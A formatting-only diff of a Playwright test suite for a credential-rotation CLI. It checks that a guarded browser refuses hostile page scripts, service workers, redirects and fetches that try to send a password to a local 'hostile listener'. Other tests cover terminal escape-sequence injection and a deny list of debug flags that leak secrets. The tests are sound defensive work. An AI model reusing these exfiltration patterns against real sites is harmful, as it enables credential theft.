@@ -73,7 +73,10 @@ test.describe("one guard for the whole context", () => {
         const page = await open(browser, [site.url]);
         await page.goto(`${site.url}/page`);
         await page.locator("#password").fill(password.reveal());
-        const outcome = await Promise.race([refused.then((r) => `refused ${r.channel} to ${r.to}, stops: ${r.stops}`), listener.firstArrival.then((what) => `leaked: ${what}`)]);
+        const outcome = await Promise.race([
+          refused.then((r) => `refused ${r.channel} to ${r.to}, stops: ${r.stops}`),
+          listener.firstArrival.then((what) => `leaked: ${what}`),
+        ]);
         expect(outcome).toMatch(new RegExp(`^refused .+ to ${listener.url}, stops: true$`));
         // Whatever was still on its way has ended with the context.
         await guarded?.context.close();
@@ -105,10 +108,16 @@ test.describe("one guard for the whole context", () => {
       const script = `/sw.js?to=${encodeURIComponent(listener.url)}&v=x`;
       // The page's own register(), and a pristine one from a fresh frame's realm.
       const attempts = await page.evaluate(async (url) => {
-        const direct = await navigator.serviceWorker.register(url).then((r) => (r ? "registered" : "no registration"), () => "refused");
+        const direct = await navigator.serviceWorker.register(url).then(
+          (r) => (r ? "registered" : "no registration"),
+          () => "refused",
+        );
         const frame = document.body.appendChild(document.createElement("iframe"));
         const container = (frame.contentWindow as Window).navigator.serviceWorker;
-        const viaFrame = await container.register(url).then((r) => (r ? "registered" : "no registration"), () => "refused");
+        const viaFrame = await container.register(url).then(
+          (r) => (r ? "registered" : "no registration"),
+          () => "refused",
+        );
         return { direct, viaFrame, registrations: (await navigator.serviceWorker.getRegistrations()).length };
       }, script);
       expect(attempts).toEqual({ direct: "no registration", viaFrame: "no registration", registrations: 0 });
@@ -139,16 +148,22 @@ test.describe("one guard for the whole context", () => {
     try {
       const page = await open(browser, [site.url], [assets.url]);
       await page.goto(`${site.url}/page`);
-      const styled = await page.evaluate((href) => new Promise((resolve) => {
-        const link = Object.assign(document.createElement("link"), { rel: "stylesheet", href });
-        link.onload = () => resolve("loaded");
-        link.onerror = () => resolve("refused");
-        document.head.append(link);
-      }), `${assets.url}/style.css`);
+      const styled = await page.evaluate(
+        (href) =>
+          new Promise((resolve) => {
+            const link = Object.assign(document.createElement("link"), { rel: "stylesheet", href });
+            link.onload = () => resolve("loaded");
+            link.onerror = () => resolve("refused");
+            document.head.append(link);
+          }),
+        `${assets.url}/style.css`,
+      );
       expect(styled).toBe("loaded");
 
       const password = newPassword();
-      await page.evaluate(({ href }) => void fetch(href, { mode: "no-cors" }), { href: `${assets.url}/style.css?v=${encodeURIComponent(password.reveal())}` });
+      await page.evaluate(({ href }) => void fetch(href, { mode: "no-cors" }), {
+        href: `${assets.url}/style.css?v=${encodeURIComponent(password.reveal())}`,
+      });
       expect((await refused).to).toBe(assets.url);
 
       await expect(page.goto(`${assets.url}/page`)).rejects.toThrow(/ERR_BLOCKED_BY_CLIENT/);
@@ -161,7 +176,11 @@ test.describe("one guard for the whole context", () => {
 });
 
 /** The site's answer to a form, pointing the browser at the hostile listener. */
-const redirectTo = (listener: HostileListener, status: number) => ({ kind: "status" as const, status, headers: { Location: `${listener.url}/collect` } });
+const redirectTo = (listener: HostileListener, status: number) => ({
+  kind: "status" as const,
+  status,
+  headers: { Location: `${listener.url}/collect` },
+});
 
 test.describe("redirects never carry a form off-site", () => {
   const FORMS: Array<{ registry: "npm" | "pypi"; form: string; rule: Pick<FaultRule, "method" | "path">; status: number }> = [
@@ -170,7 +189,10 @@ test.describe("redirects never carry a form off-site", () => {
     { registry: "pypi", form: "the login form", rule: { method: "POST", path: "/account/login/" }, status: 307 },
   ];
   for (const { registry, form, rule, status } of FORMS) {
-    test(`${registry}: a ${status} answer to ${form} pointing elsewhere is refused before the browser follows it`, async ({ world, rotation }) => {
+    test(`${registry}: a ${status} answer to ${form} pointing elsewhere is refused before the browser follows it`, async ({
+      world,
+      rotation,
+    }) => {
       const listener = await startHostileListener();
       try {
         const site = registry === "npm" ? npmOf(world) : pypiOf(world);
@@ -204,14 +226,22 @@ test("a second redirect, which Chromium follows without asking the guard, meets 
   });
   await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
   const site = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
-  const session = await launchIsolated({ browser: findBrowser(undefined, { headless: true }), headless: true, allowedOrigins: [site], env: browserEnv(process.env), timeoutMs: 5_000 });
+  const session = await launchIsolated({
+    browser: findBrowser(undefined, { headless: true }),
+    headless: true,
+    allowedOrigins: [site],
+    env: browserEnv(process.env),
+    timeoutMs: 5_000,
+  });
   try {
     await session.page.goto(`${site}/form`);
     await session.page.locator("#password").fill(password.reveal());
     const stopped = new Promise<void>((resolve) => session.lost.addEventListener("abort", () => resolve()));
     await session.page.getByRole("button", { name: "Sign in" }).click();
     await stopped;
-    expect(String(session.explain(new Error("any")))).toContain(`a page tried to send a secret to ${listener.url} (a request the browser sent on its own)`);
+    expect(String(session.explain(new Error("any")))).toContain(
+      `a page tried to send a secret to ${listener.url} (a request the browser sent on its own)`,
+    );
   } finally {
     await session.close();
     server.close();
@@ -226,7 +256,10 @@ test.describe("a hostile script on the sign-in page", () => {
     pypi: { method: "GET", path: "/account/login/" },
   };
   for (const registry of ["npm", "pypi"] as const) {
-    test(`${registry}: sends the password every way a page can; nothing arrives, the run stops and says where it tried`, async ({ world, rotation }) => {
+    test(`${registry}: sends the password every way a page can; nothing arrives, the run stops and says where it tried`, async ({
+      world,
+      rotation,
+    }) => {
       const listener = await startHostileListener();
       try {
         const every = Object.values(exfiltrations(listener.url, "secret")).join(";\n");
@@ -238,7 +271,9 @@ test.describe("a hostile script on the sign-in page", () => {
         const lines = errorLines(result);
         expect(lines).toHaveLength(1);
         expect(lines[0]).toMatch(
-          new RegExp(`^rotate: a page tried to send a secret to ${listener.url} \\(a[^)]*\\), which is not the registry's site; rotate refused it, so nothing reached ${listener.url}, and stopped \\(a hostile script on the page, or phishing\\)$`),
+          new RegExp(
+            `^rotate: a page tried to send a secret to ${listener.url} \\(a[^)]*\\), which is not the registry's site; rotate refused it, so nothing reached ${listener.url}, and stopped \\(a hostile script on the page, or phishing\\)$`,
+          ),
         );
         expect(listener.received).toEqual([]);
         expect(snapshot(world)).toEqual(before);
@@ -260,21 +295,49 @@ test.describe("server and page text is inert", () => {
     method: "GET",
     path: "/api/v2/me",
     times: 5,
-    fault: { kind: "status", status: 200, headers: { "Content-Type": "application/json" }, body: JSON.stringify({ ...DEMO.circleciUser, login }) },
+    fault: {
+      kind: "status",
+      status: 200,
+      headers: { "Content-Type": "application/json" },
+      body: JSON.stringify({ ...DEMO.circleciUser, login }),
+    },
   });
   const REFUSAL: Record<"npm" | "pypi", FaultRule> = {
-    npm: { method: "POST", path: "/login", fault: { kind: "status", status: 401, body: `<!DOCTYPE html><html><body><form id="login"><div role="alert">Incorrect username or password.${ESCAPES}${FAKE_LINE}</div></form></body></html>` } },
-    pypi: { method: "POST", path: "/account/login/", fault: { kind: "status", status: 200, body: `<!DOCTYPE html><html><body><form id="login-form"><ul class="form-errors"><li>The password is invalid.${ESCAPES}${FAKE_LINE}</li></ul></form></body></html>` } },
+    npm: {
+      method: "POST",
+      path: "/login",
+      fault: {
+        kind: "status",
+        status: 401,
+        body: `<!DOCTYPE html><html><body><form id="login"><div role="alert">Incorrect username or password.${ESCAPES}${FAKE_LINE}</div></form></body></html>`,
+      },
+    },
+    pypi: {
+      method: "POST",
+      path: "/account/login/",
+      fault: {
+        kind: "status",
+        status: 200,
+        body: `<!DOCTYPE html><html><body><form id="login-form"><ul class="form-errors"><li>The password is invalid.${ESCAPES}${FAKE_LINE}</li></ul></form></body></html>`,
+      },
+    },
   };
   const ownLines = (text: string) => text.split("\n").filter((line) => /^✔ (all good|rotated)/.test(line));
 
   for (const registry of ["npm", "pypi"] as const) {
-    test(`${registry}: a CircleCI login and a sign-in error carrying escape sequences reach neither the terminal nor the audit record as such`, async ({ world, rotation, dirs }) => {
+    test(`${registry}: a CircleCI login and a sign-in error carrying escape sequences reach neither the terminal nor the audit record as such`, async ({
+      world,
+      rotation,
+      dirs,
+    }) => {
       world.circleci.faults.add(hostileLogin(`drill-responder${ESCAPES}`));
       world.drill(registry).faults.add(REFUSAL[registry]);
       const result = await rotation.run(registry);
       expect(result.code, result.stderr).toBe(1);
-      for (const [name, text] of [["stdout", result.stdout], ["stderr", result.stderr]] as const) {
+      for (const [name, text] of [
+        ["stdout", result.stdout],
+        ["stderr", result.stderr],
+      ] as const) {
         expect(CONTROL.test(text), `${name}: ${JSON.stringify(text)}`).toBe(false);
         expect(ownLines(text)).toEqual([]);
       }
@@ -304,12 +367,17 @@ test.describe("server and page text is inert", () => {
 
 test.describe("debug switches cannot print secrets", () => {
   // DEBUG=pw:api quotes the element holding the new token; pw:protocol the sign-in form body.
-  for (const [registry, debug] of [["npm", "pw:api"], ["pypi", "pw:protocol"]] as const) {
+  for (const [registry, debug] of [
+    ["npm", "pw:api"],
+    ["pypi", "pw:protocol"],
+  ] as const) {
     test(`${registry} with DEBUG=${debug}: refuses to start, one line naming the variable, exit 2`, async ({ world, rotation }) => {
       const before = snapshot(world);
       const result = await rotation.run(registry, [], { DEBUG: debug });
       expect(result.code, result.stderr).toBe(2);
-      expect(result.stderr).toBe("rotate: DEBUG turns on debug logging that prints page elements, form bodies or request headers, which can print or record secrets: turn it off and run again\n");
+      expect(result.stderr).toBe(
+        "rotate: DEBUG turns on debug logging that prints page elements, form bodies or request headers, which can print or record secrets: turn it off and run again\n",
+      );
       expect(snapshot(world)).toEqual(before);
     });
   }
@@ -333,7 +401,20 @@ test.describe("debug switches cannot print secrets", () => {
     expect(on({ npm_config_pwdebug: "1" })).toBe("npm_config_pwdebug");
     expect(on({ NODE_DEBUG: "net" })).toBe("NODE_DEBUG");
     expect(on({ SSLKEYLOGFILE: "/tmp/keys" })).toBe("SSLKEYLOGFILE");
-    for (const flag of ["--inspect", "--inspect-brk=0", "--inspect-wait", "--trace-events-enabled", "--trace-event-categories=v8", "--trace-sync-io", "--cpu-prof", "--heap-prof", "--prof", "--heapsnapshot-signal=SIGUSR2", "--report-on-signal", "--tls-keylog=/tmp/k"]) {
+    for (const flag of [
+      "--inspect",
+      "--inspect-brk=0",
+      "--inspect-wait",
+      "--trace-events-enabled",
+      "--trace-event-categories=v8",
+      "--trace-sync-io",
+      "--cpu-prof",
+      "--heap-prof",
+      "--prof",
+      "--heapsnapshot-signal=SIGUSR2",
+      "--report-on-signal",
+      "--tls-keylog=/tmp/k",
+    ]) {
       expect(on({ NODE_OPTIONS: `--max-old-space-size=512 ${flag}` }), flag).toBe(`NODE_OPTIONS (${flag.split("=")[0]})`);
       expect(on({}, [flag]), flag).toBe(`the node command line (${flag.split("=")[0]})`);
     }
@@ -359,7 +440,10 @@ function filesUnder(root: string): string[] {
 /** The soft core size limit of a process, from /proc ("" when it is gone). */
 function coreLimit(pid: number): string {
   try {
-    const line = readFileSync(`/proc/${pid}/limits`, "utf8").split("\n").find((l) => l.startsWith("Max core file size")) ?? "";
+    const line =
+      readFileSync(`/proc/${pid}/limits`, "utf8")
+        .split("\n")
+        .find((l) => l.startsWith("Max core file size")) ?? "";
     return line.slice("Max core file size".length).trim().split(/\s+/)[0] ?? "";
   } catch {
     return "";
@@ -381,7 +465,11 @@ function processesMentioning(text: string): number[] {
 }
 
 test.describe("nothing survives on disk", () => {
-  test("rotate killed mid-run: its profile is left; the next start removes it and its browser; core dumps were off throughout", async ({ world, rotation, dirs }) => {
+  test("rotate killed mid-run: its profile is left; the next start removes it and its browser; core dumps were off throughout", async ({
+    world,
+    rotation,
+    dirs,
+  }) => {
     test.skip(process.platform !== "linux", "reads /proc");
     // Start the CLI with core dumps on, as a machine that allows them would.
     const limit = coreLimit(process.pid);
@@ -389,7 +477,9 @@ test.describe("nothing survives on disk", () => {
     let held = () => undefined as void;
     const browserOpen = new Promise<void>((resolve) => (held = resolve));
     // The new token's check: the browser is open then, whichever path npm takes.
-    world.drill("npm").faults.add({ ...world.drill("npm").points.check, fault: { kind: "hold", release: new Promise(() => undefined), onHeld: held } });
+    world
+      .drill("npm")
+      .faults.add({ ...world.drill("npm").points.check, fault: { kind: "hold", release: new Promise(() => undefined), onHeld: held } });
     try {
       const first = rotation.start("npm");
       await browserOpen;
@@ -434,12 +524,19 @@ console.log(JSON.stringify({ uid: process.getuid(), sandbox: !browserArgs.includ
 await session.close();`;
     const asUser = root ? ["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups"] : [];
     try {
-      const result = spawnSync(asUser[0] ?? process.execPath, [...asUser.slice(1), ...(root ? [process.execPath] : []), "--input-type=module", "-e", probe], {
-        env: { PATH: process.env.PATH, HOME: dir, TMPDIR: dir },
-        encoding: "utf8",
-        timeout: 60_000,
+      const result = spawnSync(
+        asUser[0] ?? process.execPath,
+        [...asUser.slice(1), ...(root ? [process.execPath] : []), "--input-type=module", "-e", probe],
+        {
+          env: { PATH: process.env.PATH, HOME: dir, TMPDIR: dir },
+          encoding: "utf8",
+          timeout: 60_000,
+        },
+      );
+      expect(JSON.parse(result.stdout.trim().split("\n").at(-1) ?? "{}"), result.stderr).toEqual({
+        uid: root ? 65534 : process.getuid?.(),
+        sandbox: true,
       });
-      expect(JSON.parse(result.stdout.trim().split("\n").at(-1) ?? "{}"), result.stderr).toEqual({ uid: root ? 65534 : process.getuid?.(), sandbox: true });
     } finally {
       rmSync(dir, { recursive: true, force: true });
     }
@@ -454,13 +551,21 @@ await session.close();`;
     const { XDG_CONFIG_HOME: _config, XDG_CACHE_HOME: _cache, ...env } = browserEnv(process.env);
     try {
       // The full Chromium a real (visible) run uses: the headless shell writes no dump at all.
-      const session = await launchIsolated({ browser: findBrowser(), headless: true, allowedOrigins: ["http://127.0.0.1:9"], env: { ...env, HOME: home, TMPDIR: tmp }, timeoutMs: 5_000 });
+      const session = await launchIsolated({
+        browser: findBrowser(),
+        headless: true,
+        allowedOrigins: ["http://127.0.0.1:9"],
+        env: { ...env, HOME: home, TMPDIR: tmp },
+        timeoutMs: 5_000,
+      });
       try {
         await session.page.goto("chrome://crash").catch(() => undefined);
         // Chromium's crash handler writes the dump shortly after the renderer died.
         // The handler moves a dump between its folders, so the check reads one snapshot.
         let dumps: string[] = [];
-        await expect.poll(() => (dumps = filesUnder(root).filter((file) => file.endsWith(".dmp"))).length, { timeout: 20_000 }).toBeGreaterThan(0);
+        await expect
+          .poll(() => (dumps = filesUnder(root).filter((file) => file.endsWith(".dmp"))).length, { timeout: 20_000 })
+          .toBeGreaterThan(0);
         for (const dump of dumps) expect(dump).toMatch(new RegExp(`^${tmp}/rotate-browser-${process.pid}-`));
         expect(filesUnder(home)).toEqual([]);
       } finally {
